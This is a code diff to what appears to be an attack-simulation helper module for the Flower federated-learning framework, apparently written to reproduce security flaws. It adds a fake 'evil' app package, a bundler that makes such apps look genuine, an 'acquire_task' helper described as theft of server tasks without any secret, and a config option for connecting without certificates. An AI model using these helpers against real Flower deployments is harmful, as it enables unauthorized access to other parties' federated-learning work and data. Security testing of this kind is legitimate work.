@@ -7,17 +7,16 @@ Nothing here is ours: it is what anybody who installs Flower has. Calls return t
 from __future__ import annotations
 
 import hashlib
-import io
 import ssl
 import subprocess
 import sys
-import zipfile
 from base64 import b64encode
 from pathlib import Path
 from typing import TypeVar
 
 import httpx
 from cryptography.hazmat.primitives.asymmetric import ec
+from flwr.cli.build import build_fab_from_files
 from flwr.common.constant import TIMESTAMP_HEADER
 from flwr.proto.control_pb2 import StartRunRequest
 from flwr.proto.fab_pb2 import Fab, GetFabRequest
@@ -55,6 +54,26 @@ from flwr.supercore.runtime_version_compatibility import RuntimeVersionMetadata
 from google.protobuf.message import Message
 
 Answer = TypeVar("Answer", bound=Message)
+APPS = 'serverapp = "evil:app"\nclientapp = "evil:app"\n'
+APP_PROJECT = f"""\
+[build-system]
+requires = ["setuptools"]
+build-backend = "setuptools.build_meta"
+
+[project]
+name = "evil"
+version = "1.0.0"
+description = "An app of somebody else."
+license = {{ file = "LICENSE" }}
+dependencies = ["flwr>=1.41.0"]
+
+[tool.flwr.app]
+publisher = "evil"
+fab-format-version = 1
+flwr-version-target = "1.41.0"
+
+[tool.flwr.app.components]
+{APPS}"""
 
 __all__ = [
     "ActivateNodeResponse",
@@ -62,11 +81,13 @@ __all__ = [
     "PullMessagesResponse",
     "PullObjectResponse",
     "acquire_task",
+    "app_bundle",
+    "asked_from",
+    "flwr_app",
     "flwr_command",
     "new_node_key",
     "parsed",
     "start_run",
-    "zipped",
 ]
 
 
@@ -165,13 +186,9 @@ class FleetAttacker:
         return Node(node_id=self.node_id)
 
 
-def zipped(files: dict[str, bytes]) -> bytes:
-    """A Flower app bundle with these files."""
-    buffer = io.BytesIO()
-    with zipfile.ZipFile(buffer, "w") as archive:
-        for name, content in sorted(files.items()):
-            archive.writestr(name, content)
-    return buffer.getvalue()
+def app_bundle(files: dict[str, bytes]) -> bytes:
+    """A Flower app bundle with these files, by Flower's own builder: whoever unpacks it finds it good."""
+    return build_fab_from_files(dict(files))[0]
 
 
 def start_run(url: str, context: ssl.SSLContext, bundle: bytes, config: dict[str, str] | None = None, prompt: str = "") -> int:
@@ -187,6 +204,14 @@ def start_run(url: str, context: ssl.SSLContext, bundle: bytes, config: dict[str
         client.close()
 
 
+def asked_from(http: httpx.Client, path: str) -> tuple[httpx.Response, int]:
+    """An answer, and the local port of the connection that it came on: the same port is the same connection."""
+    with http.stream("GET", path) as response:
+        port = int(response.extensions["network_stream"].get_extra_info("client_addr")[1])
+        response.read()
+    return response, port
+
+
 def acquire_task(http: httpx.Client) -> httpx.Response:
     """The theft: ask the Runtime API for a ServerApp task without any secret."""
     headers = {"content-type": MEDIA_TYPE, "accept": MEDIA_TYPE}
@@ -195,11 +220,21 @@ def acquire_task(http: httpx.Client) -> httpx.Response:
     return http.post("/v1/runtime/acquire-task", content=body, headers=headers)
 
 
-def flwr_command(home: Path, address: str, ca: Path, *arguments: str) -> subprocess.CompletedProcess[str]:
-    """The stock `flwr` command, as a hospital could run it, with a connection `target` to `address`."""
+def flwr_app(folder: Path) -> Path:
+    """The folder of an app that `flwr run` accepts."""
+    folder.mkdir(parents=True, exist_ok=True)
+    (folder / "pyproject.toml").write_text(APP_PROJECT, encoding="utf-8")
+    (folder / "LICENSE").write_text("x\n", encoding="utf-8")
+    (folder / "evil.py").write_text("from flwr.clientapp import ClientApp\napp = ClientApp()\n", encoding="utf-8")
+    return folder
+
+
+def flwr_command(home: Path, address: str, ca: Path | None, *arguments: str) -> subprocess.CompletedProcess[str]:
+    """The stock `flwr` command, as a hospital could run it, with a connection `target` to `address`; without `ca` it goes there bare."""
+    trust = "insecure = true" if ca is None else f'root-certificates = "{ca}"'
     home.mkdir(parents=True, exist_ok=True)
     (home / "config.toml").write_text(
-        f'[superlink]\ndefault = "target"\n\n[superlink.target]\naddress = "{address}"\nroot-certificates = "{ca}"\n', encoding="utf-8"
+        f'[superlink]\ndefault = "target"\n\n[superlink.target]\naddress = "{address}"\n{trust}\n', encoding="utf-8"
     )
     from simulations.processes import environment
 
